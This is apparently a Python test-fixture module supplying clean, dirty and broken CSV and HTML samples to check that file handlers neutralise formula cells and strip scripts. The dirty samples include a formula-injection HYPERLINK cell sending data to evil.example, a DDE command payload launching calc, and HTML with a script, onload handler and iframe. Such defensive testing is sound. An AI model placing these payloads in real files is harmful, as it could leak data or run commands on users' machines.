"""Contract samples: CSV (formula cells neutralised) and HTML (converted to text)."""

from __future__ import annotations

from handlers.textual import CsvHandler, HtmlHandler
from tests.handlers.contract import MARKER, Sample

#: libmagic calls a comma-separated file text/csv only from about three records on.
_CSV_ROWS = "2,b,ok\n3,c,ok\n"
HTML_SECRETS = ("SCRIPT-SECRET-c0", "COMMENT-SECRET-c1", "AUTHOR-SECRET-c2", "STYLE-SECRET-c3")

SAMPLES = {
    "text/csv": Sample(
        handler=CsvHandler,
        clean=lambda: f"id,name,note\n1,{MARKER},ok\n{_CSV_ROWS}".encode(),
        dirty=lambda: (f"id,name,note\n1,{MARKER},=HYPERLINK(\"http://evil.example/?\"&A1)\n"
                       "2,x,+cmd|' /C calc'!A0\n3,y,@SUM(1+1)\n").encode(),
        broken=b'id,name\n1,"unterminated\n',
        labels=False,
    ),
    "text/html": Sample(
        handler=HtmlHandler,
        clean=lambda: f"<html><body><p>{MARKER} 本文</p></body></html>".encode(),
        dirty=lambda: (
            "<html><head><title>t</title>"
            f"<meta name=\"author\" content=\"{HTML_SECRETS[2]}\">"
            f"<style>.{HTML_SECRETS[3]}{{}}</style>"
            f"<script>var x='{HTML_SECRETS[0]}';</script></head>"
            f"<body onload=\"x()\"><p>{MARKER} 本文</p><!-- {HTML_SECRETS[1]} -->"
            "<iframe src=\"https://evil.example/\"></iframe></body></html>"
        ).encode(),
        broken=b"<html><body>" + b"\xff\xfd\xfc\x80\x81" * 10,
        labels=True,
        output_mime="text/plain",
        secrets=HTML_SECRETS,
    ),
}
